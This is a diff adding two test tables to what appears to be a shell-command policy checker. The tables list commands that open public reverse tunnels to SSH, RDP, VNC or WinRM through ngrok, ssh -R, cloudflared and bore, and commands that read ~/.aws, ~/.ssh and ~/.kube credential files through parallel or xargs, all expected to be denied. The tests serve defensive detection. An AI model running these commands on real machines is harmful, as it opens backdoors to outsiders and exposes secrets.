@@ -244,3 +244,39 @@ test('cloud: a deletion whose targets a listing selects by a production filter i
   ];
   await runTable(t, rows);
 });
+
+test('a public tunnel to a remote-login service (SSH, RDP, VNC, telnet, WinRM) is a backdoor and denied; tunnels to dev servers stay warnings or allowed', async (t) => {
+  const rows: Row[] = [
+    [shell('ngrok tcp 22 >/dev/null & sleep 2; curl -s localhost:4040/api/tunnels'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -R 2222:localhost:22 serveo.net'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -p 443 -R0:localhost:22 tcp@a.pinggy.io'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -R 0:127.0.0.1:3389 nokey@localhost.run'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ngrok tcp 3389'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ngrok tcp 5900 --region eu'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('cloudflared tunnel --url ssh://localhost:22'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('cloudflared tunnel --url tcp://127.0.0.1:5985'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('bore local 22 --to bore.pub'), 'deny', 'exfiltration.reverse_tunnel'],
+    // Look-alikes: a web dev server shared, a tunnel to the company bastion.
+    [shell('ngrok http 3000'), 'allow'],
+    [shell('cloudflared tunnel --url http://localhost:8080'), 'allow'],
+    [shell('ssh -R 8080:localhost:8080 ops@bastion.acme.io'), 'allow'],
+    [shell('ssh -L 5432:db.internal:5432 bastion.acme.io'), 'allow'],
+    [shell('ngrok tcp 5432'), 'warn', 'exfiltration.reverse_tunnel'],
+  ];
+  await runTable(t, rows);
+});
+
+test('parallel fed on stdin is xargs: a reader of the listed credential files is judged as one, whichever wrapper splices the lines in', async (t) => {
+  const rows: Row[] = [
+    [shell('ls ~/.aws | parallel cat ~/.aws/{}'), 'deny', 'credential_access'],
+    [shell('ls ~/.ssh | parallel -j4 cat ~/.ssh/{}'), 'deny', 'credential_access'],
+    [shell('find ~/.aws -type f | parallel cat'), 'deny', 'credential_access'],
+    [shell('ls ~/.kube | parallel --will-cite head -50 ~/.kube/{}'), 'deny', 'credential_access'],
+    [shell('ls ~/.aws | xargs -I{} cat ~/.aws/{}'), 'deny', 'credential_access'],
+    // Look-alikes: the project's own files through the same wrappers.
+    [shell('ls src | parallel wc -l src/{}'), 'allow'],
+    [shell("find . -name '*.ts' | parallel prettier --write"), 'allow'],
+    [shell('ls ~/.aws | wc -l'), 'allow'],
+  ];
+  await runTable(t, rows);
+});
